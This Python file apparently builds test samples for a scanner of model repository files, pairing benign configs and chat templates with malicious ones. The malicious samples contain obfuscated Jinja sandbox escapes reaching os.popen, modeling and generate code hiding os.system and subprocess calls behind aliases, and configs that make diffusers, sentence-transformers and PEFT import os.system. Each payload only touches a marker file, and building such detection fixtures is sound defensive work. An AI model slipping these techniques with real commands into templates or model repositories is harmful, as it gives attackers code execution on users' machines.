"""Zoo samples for repository files: chat templates wherever loaders find them,
and the code that configs make loaders import.

Malicious templates compute their dunder names while rendering (no constant
holds one), each through another construction; malicious code hides its
process call behind an alias. Every payload only touches a marker file.
Benign samples are shaped like real repositories: templates with
transformers' ``{% generation %}`` tag, sentence-transformers and diffusers
configs naming only their own classes, modeling code that looks attributes
up by computed names on its own objects.
"""

from __future__ import annotations

import json
from collections.abc import Callable

__all__ = ["benign", "malicious"]

_LLAMA3 = (
    "{% for message in messages %}{{ '<|start_header_id|>' + message['role'] + "
    "'<|end_header_id|>\\n\\n' + message['content'] | trim + '<|eot_id|>' }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}"
    "{% endif %}"
)


def _escape(command: str, build: Callable[[str], str]) -> str:
    """A real-looking template whose tail runs ``command`` through names built by ``build``."""
    return (
        _LLAMA3
        + "{{ (cycler|attr("
        + build("init")
        + ")|attr("
        + build("globals")
        + ")).os.popen('"
        + command
        + "').read() }}"
    )


def _gguf(metadata: dict[str, str | int]) -> bytes:
    from openward._samples import gguf_bytes

    return gguf_bytes(metadata)


def malicious(add: Callable[..., None], touch: Callable[[str], str]) -> None:
    tag = "template-dict-form"
    add(
        "repo_template_dict/tokenizer_config.json",
        json.dumps(
            {
                "chat_template": {
                    "default": _LLAMA3,
                    "tool_use": _escape(touch(tag), lambda w: f"dict(__{w}__=1)|list|first"),
                }
            }
        ).encode(),
        tag,
        "tokenizer_config.json whose {name: template} dict hides dunders in dict() keywords",
        "chat-template-unsafe",
    )
    tag = "template-additional-jinja"
    add(
        "repo_additional/additional_chat_templates/rag.jinja",
        _escape(touch(tag), lambda w: f"'%c%c{w}%c%c'|format(95, 95, 95, 95)").encode(),
        tag,
        "additional_chat_templates/*.jinja building names with %c formatting",
        "chat-template-unsafe",
    )
    tag = "template-processor-json"
    add(
        "repo_processor/chat_template.json",
        json.dumps(
            {"chat_template": _escape(touch(tag), lambda w: f"['_', '_{w}_', '_']|join")}
        ).encode(),
        tag,
        "processor chat_template.json joining the name from a list",
        "chat-template-unsafe",
    )
    tag = "template-lipsum-chars"
    add(
        "repo_lipsum/chat_template.jinja",
        (
            "{% set u = (lipsum|string|list)[18] %}"
            + _escape(touch(tag), lambda w: f"u ~ u ~ '{w}' ~ u ~ u")
        ).encode(),
        tag,
        "underscores picked out of a function's repr at render time",
        "chat-template-unsafe",
    )
    tag = "template-zip-header"
    add(
        "repo_ziphead/chat_template.jinja",
        (
            "PK\x03\x04" + _escape(touch(tag), lambda w: f"('__' ~ '{w.upper()}' ~ '__')|lower")
        ).encode(),
        tag,
        "a chat_template.jinja whose first bytes are a zip signature (transformers reads "
        "it by name, as text)",
        "chat-template-unsafe",
    )
    tag = "gguf-template-namespace-loop"
    template = (
        "{% set ns = namespace(v='') %}{% set g = namespace(v='') %}"
        "{% for p in ['_', '_', 'init', '_', '_'] %}{% set ns.v = ns.v ~ p %}{% endfor %}"
        "{% for p in ['_', '_', 'globals', '_', '_'] %}{% set g.v = g.v ~ p %}{% endfor %}"
        "{{ cycler[ns.v][g.v].os.popen('" + touch(tag) + "').read() }}"
    )
    add(
        "gguf/template_namespace_loop.gguf",
        _gguf({"general.architecture": "llama", "tokenizer.chat_template.rag": _LLAMA3 + template}),
        tag,
        "GGUF named template accumulating the name in a namespace over a loop",
        "chat-template-unsafe",
    )
    tag = "remote-code-alias"
    add(
        "repo_alias/config.json",
        json.dumps({"auto_map": {"AutoModel": "modeling_alias.AliasModel"}}).encode(),
        tag,
        "auto_map naming a module whose process call hides behind aliases",
        "remote-code",
        "medium",
    )
    add(
        "repo_alias/modeling_alias.py",
        (
            "import torch\n\n"
            "_m = __import__('o' + 's')\n"
            "_run = getattr(_m, 'sys' + 'tem')\n\n\n"
            "class AliasModel(torch.nn.Module):\n"
            "    def __init__(self):\n"
            "        super().__init__()\n"
            f"        _run({touch(tag)!r})\n"
        ).encode(),
        tag,
        "os.system reached through __import__ and getattr with glued names",
        "python-dangerous-call",
        "high",
    )
    tag = "custom-generate"
    add(
        "repo_generate/custom_generate/generate.py",
        (
            "import subprocess as _sp\n\n"
            "def generate(model, *args, **kwargs):\n"
            f"    _sp.run({touch(tag)!r}, shell=True)\n"
            "    return model.generate(*args, **kwargs)\n"
        ).encode(),
        tag,
        "custom_generate/generate.py that transformers imports with trust_remote_code",
        "python-dangerous-call",
        "high",
    )
    tag = "diffusers-custom-component"
    add(
        "repo_diffusers/model_index.json",
        json.dumps(
            {
                "_class_name": "StableDiffusionPipeline",
                "_diffusers_version": "0.30.0",
                "unet": ["diffusers", "UNet2DConditionModel"],
                "scheduler": ["os", "system"],
            }
        ).encode(),
        tag,
        "model_index.json whose component names os.system as its library and class",
        "config-imports-module",
    )
    tag = "sentence-transformers-module-type"
    add(
        "repo_st/modules.json",
        json.dumps(
            [
                {
                    "idx": 0,
                    "name": "0",
                    "path": "",
                    "type": "sentence_transformers.models.Transformer",
                },
                {"idx": 1, "name": "1", "path": "1_Pooling", "type": "posix.system"},
            ]
        ).encode(),
        tag,
        "modules.json whose module type is posix.system (imported, then called with the path)",
        "config-imports-module",
    )
    tag = "peft-parent-library"
    add(
        "repo_peft/adapter_config.json",
        json.dumps(
            {
                "peft_type": "LORA",
                "auto_mapping": {"base_model_class": "system", "parent_library": "os"},
            }
        ).encode(),
        tag,
        "adapter_config.json whose auto_mapping makes PEFT import os",
        "config-imports-module",
    )


def benign(add: Callable[[str, bytes, str, str], None]) -> None:
    generation = (
        "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' }}"
        "{% if message['role'] == 'assistant' %}{% generation %}{{ message['content'] + "
        "'<|im_end|>' }}{% endgeneration %}{% else %}{{ message['content'] + '<|im_end|>' }}"
        "{% endif %}{{ '\\n' }}{% endfor %}"
        "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
    )
    add(
        "repo_training/tokenizer_config.json",
        json.dumps(
            {
                "bos_token": "<s>",
                "chat_template": [
                    {"name": "default", "template": generation},
                    {"name": "tool_use", "template": _LLAMA3},
                ],
            }
        ).encode(),
        "template-generation-tag",
        "list-form chat templates using transformers' {% generation %} tag",
    )
    add(
        "repo_training/chat_template.jinja",
        (
            b"{%- for key in messages[0] %}{{ key }}={{ messages[0][key] }}{% endfor %}"
            b"{%- set ns = namespace(parts=[]) %}{%- for m in messages %}"
            b"{%- set ns.parts = ns.parts + [m.content|trim] %}{%- endfor %}"
            b"{{- ns.parts|join('\\n') }}{{- strftime_now('%d %b %Y') }}"
        ),
        "template-data-keys",
        "a template that indexes messages by their own keys",
    )
    add(
        "repo_st_ok/modules.json",
        json.dumps(
            [
                {
                    "idx": 0,
                    "name": "0",
                    "path": "",
                    "type": "sentence_transformers.models.Transformer",
                },
                {
                    "idx": 1,
                    "name": "1",
                    "path": "1_Pooling",
                    "type": "sentence_transformers.models.Pooling",
                },
                {
                    "idx": 2,
                    "name": "2",
                    "path": "2_Normalize",
                    "type": "sentence_transformers.models.Normalize",
                },
            ]
        ).encode(),
        "sentence-transformers-modules",
        "modules.json of a typical sentence-transformers model",
    )
    add(
        "repo_diffusers_ok/model_index.json",
        json.dumps(
            {
                "_class_name": "StableDiffusionPipeline",
                "_diffusers_version": "0.21.0",
                "feature_extractor": ["transformers", "CLIPImageProcessor"],
                "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
                "scheduler": ["diffusers", "PNDMScheduler"],
                "text_encoder": ["transformers", "CLIPTextModel"],
                "tokenizer": ["transformers", "CLIPTokenizer"],
                "unet": ["diffusers", "UNet2DConditionModel"],
                "vae": ["diffusers", "AutoencoderKL"],
                "image_encoder": [None, None],
            }
        ).encode(),
        "diffusers-model-index",
        "model_index.json of a Stable Diffusion pipeline",
    )
    add(
        "repo_modeling_ok/modeling_helpers.py",
        (
            b"import importlib\nimport os\n\nimport torch\nfrom torch import nn\n\n\n"
            b"class Block(nn.Module):\n"
            b"    def __init__(self, config):\n"
            b"        super().__init__()\n"
            b"        self.act = getattr(nn, config.hidden_act)()\n"
            b"        self.norm = getattr(self, 'norm_' + config.norm, None)\n"
            b"        self.path = os.path.join(os.path.dirname(__file__), 'x')\n"
            b"        self.fa = importlib.import_module('torch.nn.functional')\n\n"
            b"    def forward(self, x):\n"
            b"        state = torch.load("  # safe: source text of a generated sample, not run
            b"self.path, weights_only=True)\n"
            b"        return self.act(x) + state['b']\n"
        ),
        "remote-code-benign",
        "modeling code with computed getattr on its own objects and a constant import",
    )
